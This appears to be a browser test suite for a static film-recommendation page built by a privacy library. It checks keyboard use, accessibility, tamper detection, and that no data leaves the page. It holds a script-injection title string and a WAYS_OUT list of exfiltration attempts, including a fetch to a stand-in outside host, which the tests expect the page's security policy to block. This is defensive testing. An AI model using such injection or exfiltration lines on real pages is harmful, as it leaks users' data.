"""The page in a real browser: from a server and from a disk, used by keyboard, watched for anything that leaves it."""

from __future__ import annotations

import functools
import json
import re
import threading
from collections.abc import Iterator
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from chromium import DOWN, ENTER, LEFT, Chromium, missing

import lowkey as lk
from lowkey.data.synthetic import taste
from lowkey.release.site import write_site

pytestmark = [pytest.mark.skipif(bool(missing()), reason=missing()), pytest.mark.xdist_group("chromium")]
CROWD = taste(3000, 300, 30, seed=11)
NASTY = "<script>document.title='owned'</script> & \"quotes\""


class Server(ThreadingHTTPServer):
    """Serves a folder on loopback and remembers what was asked for."""

    def __init__(self, folder: Path) -> None:
        self.asked: list[str] = []
        super().__init__(("127.0.0.1", 0), functools.partial(Remembering, directory=str(folder)))
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"


class Remembering(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        assert isinstance(self.server, Server)
        self.server.asked.append(self.path)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A release like the demo's, of fewer people, and its page."""
    folder = tmp_path_factory.mktemp("page")
    lk.DPFactors(epsilon=4.0, delta=1e-6).fit(CROWD.ratings()).release(folder / "release")
    write_site(folder / "release", folder / "site", titles={CROWD.facts["items"][7]: NASTY}, heading="Which film next?")
    return folder / "site"


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chromium]:
    made = Chromium(tmp_path_factory.mktemp("profile"))
    yield made
    made.close()


@pytest.fixture
def server(site: Path) -> Iterator[Server]:
    made = Server(site)
    yield made
    made.shutdown()
    made.server_close()


def ready(browser: Chromium, address: str) -> None:
    browser.open("about:blank")
    browser.requests(), browser.console()
    browser.open(address)
    browser.wait_for("return document.getElementById('app') && !document.getElementById('app').hidden")


def shown(browser: Chromium) -> list[str]:
    return browser.run("return [...document.querySelectorAll('#recommendations > li')].map((row) => row.dataset.id)")


def pick_five(browser: Chromium) -> dict[str, float]:
    """By keyboard alone: the first find, the third find, and ratings by arrow keys."""
    words, downs, steps = ("space opera", "western", "heist", "musical", "kung fu"), (0, 2, 0, 1, 0), (0, 8, 1, 3, 0)
    for word, down in zip(words, downs, strict=True):
        browser.type("#search", word + DOWN * down + ENTER)
    for place, step in enumerate(steps, 1):
        browser.type(f"#picks li:nth-child({place}) input", LEFT * step)
    names = [item for item in CROWD.facts["items"] if item != CROWD.facts["items"][7]]
    found = {word: [name for name in names if word in name.lower()] for word in words}
    return {found[word][down]: 5.0 - step / 2 for word, down, step in zip(words, downs, steps, strict=True)}


@pytest.mark.parametrize("where", ["server", "disk"])
def test_five_picks_give_pythons_top_ten_and_nothing_leaves(
    site: Path, server: Server, browser: Chromium, where: str
) -> None:
    address = f"{server.address}/index.html" if where == "server" else (site / "index.html").as_uri()
    ready(browser, address)
    assert browser.requests() == [address]
    model = lk.load(site.parent / "release")
    assert shown(browser) == list(model.recommend({}, 10)[0])
    history = pick_five(browser)
    assert shown(browser) == list(model.recommend(history, 10)[0])
    browser.run("for (const d of document.querySelectorAll('#recommendations details')) d.open = true")
    assert browser.requests() == []
    assert browser.console() == []
    assert server.asked == (["/index.html"] if where == "server" else [])
    assert browser.run("return document.getElementById('checked').dataset.ok") == "true"
    if where == "server":  # a page from a disk may not even ask
        assert browser.run(STORED) == ["", 0, 0, 0]


STORED = """
return indexedDB.databases().then((found) => [document.cookie, localStorage.length, sessionStorage.length, found.length])
"""
LATER = "new Promise((tell) => setTimeout(() => tell('refused'), 300))"
WAYS_OUT = {
    "fetch elsewhere": "return fetch('https://example.invalid/?h').then(() => 'sent', () => 'refused')",
    "fetch from its own server": "return fetch('/manifest.json?h').then(() => 'sent', () => 'refused')",
    "a beacon": f"navigator.sendBeacon('/beacon?h', 'h'); return {LATER}",
    "a picture": f"new Image().src = '/privacy_report.html?h'; return {LATER}",
    "a socket": f"try {{ new WebSocket(location.origin.replace('http', 'ws') + '/?h') }} catch {{}} return {LATER}",
    "a prefetch": f"document.head.append(Object.assign(document.createElement('link'), {{rel: 'prefetch', href: '/?h'}})); "
    f"return {LATER}",
}


@pytest.mark.parametrize("way", WAYS_OUT)
def test_the_policy_refuses_every_way_out(site: Path, server: Server, browser: Chromium, way: str) -> None:
    """Even a script that somebody had put into the page could not send the list."""
    ready(browser, f"{server.address}/index.html")
    assert browser.run(WAYS_OUT[way]) == "refused"
    assert server.asked == ["/index.html"]
    assert any("Content Security Policy" in message for message in browser.console()), "the policy was not the reason"


def test_a_suggestion_that_one_knows_joins_the_list_and_the_keyboard_stays_there(site: Path, browser: Chromium) -> None:
    ready(browser, (site / "index.html").as_uri())
    before = shown(browser)
    browser.type("#recommendations > li:nth-child(3) button", ENTER)
    assert browser.run("return document.querySelector('#picks li span').textContent") == before[2]
    assert before[2] not in shown(browser)
    focused = "return [...document.querySelectorAll('#recommendations .icon')].indexOf(document.activeElement)"
    assert browser.run(focused) == 2
    browser.type("#picks button", ENTER)
    assert shown(browser) == before
    assert browser.run("return document.activeElement.id") == "search"


def test_a_title_is_text_whatever_it_says(site: Path, browser: Chromium) -> None:
    ready(browser, (site / "index.html").as_uri())
    browser.type("#search", "<script>" + ENTER)
    assert browser.run("return document.querySelector('#picks li span').textContent") == NASTY
    assert browser.run("return document.title") == "Which film next?"


@pytest.mark.parametrize("width", [320, 390, 1280])
def test_it_fits_the_screen_and_everything_has_a_name(site: Path, browser: Chromium, width: int, tmp_path: Path) -> None:
    ready(browser, (site / "index.html").as_uri())
    pick_five(browser)
    for dark in (False, True):
        browser.screenshot(tmp_path / "picture.png", width, 900, dark)
        assert browser.run("return document.documentElement.scrollWidth") <= width
        assert browser.run(CONTRAST) >= 4.5  # WCAG AA
    nameless = (
        "return [...document.querySelectorAll('button, input, a, summary')].filter((e) => !(e.ariaLabel || e.innerText"
    )
    assert browser.run(nameless + " || e.labels?.length || e.textContent.trim())).length") == 0
    browser.devtools("Emulation.clearDeviceMetricsOverride")


CONTRAST = """
const light = (colour) => { const [r, g, b] = colour.match(/[\\d.]+/g).map((x) => { x /= 255;
  return x <= 0.03928 ? x / 12.92 : ((x + 0.055) / 1.055) ** 2.4; }); return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
const style = (selector) => getComputedStyle(document.querySelector(selector));
const ratio = (a, b) => { const [x, y] = [light(a), light(b)].sort((p, q) => q - p); return (x + 0.05) / (y + 0.05); };
const card = style('#app > section').backgroundColor, paper = style('body').backgroundColor;
const on = (selector, ground) => ratio(style(selector).color, ground);
return Math.min(on('.title', card), on('summary', card), on('.score', card), on('output', card), on('.facts p', paper),
  on('.promise', paper), on('.facts a', paper), on('footer', paper), on('#peek', style('#peek').backgroundColor));
"""


def broken_pages(page: str) -> dict[str, tuple[str, str]]:
    """What somebody or an accident did to a page, and a word of the sentence that a visitor must read."""
    model = page.index('id="model">') + len('id="model">')
    start = page.index('id="manifest">')
    changed = "B" if page[model + 400] == "A" else "A"
    return {
        "another number": (page[: model + 400] + changed + page[model + 401 :], "model.safetensors was changed"),
        "another title": (page.replace("Space Opera 1:", "Space Opera 9:", 1), "items.json was changed"),
        "another guarantee": (re.sub(r'"epsilon": [\d.]+', '"epsilon": 0.1', page, count=1), "manifest.json was changed"),
        # The policy knows the script by its hash, so only the manifest names another version.
        "another version": (page[:start] + page[start:].replace("lowkey-web/1", "lowkey-web/9", 1), '"lowkey-web/9"'),
        "cut in the model": (page[: model + 300], "not loaded to its end"),
        "cut in the script": (page[: page.index("class FactorRule")], "fresh copy"),
        "half a model": (page[: model + 800] + page[page.index("</script>", model) :], "bytes instead of"),
    }


@pytest.mark.parametrize("damage", ["another number", "another title", "another guarantee", "another version",
    "cut in the model", "cut in the script", "half a model"])  # fmt: skip
def test_a_bad_page_says_so_in_a_sentence(site: Path, browser: Chromium, tmp_path: Path, damage: str) -> None:
    text, word = broken_pages((site / "index.html").read_text("utf-8"))[damage]
    (tmp_path / "index.html").write_text(text, "utf-8")
    browser.open((tmp_path / "index.html").as_uri())
    browser.wait_for(f"return (document.getElementById('status')?.textContent ?? '').includes({json.dumps(word)})")
    said = browser.run("return document.getElementById('status').textContent")
    assert "fresh copy" in said or "export the release again" in said
    assert browser.run("return !document.getElementById('app') || document.getElementById('app').hidden")
